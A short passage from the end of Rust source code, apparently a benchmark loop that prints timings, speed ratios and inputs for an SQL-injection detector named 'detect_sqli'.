             detect_sqli {shortcut:>6.0} ns  {:?}",
            s.len(),
            old / new,
            String::from_utf8_lossy(s)
        );
    }
}
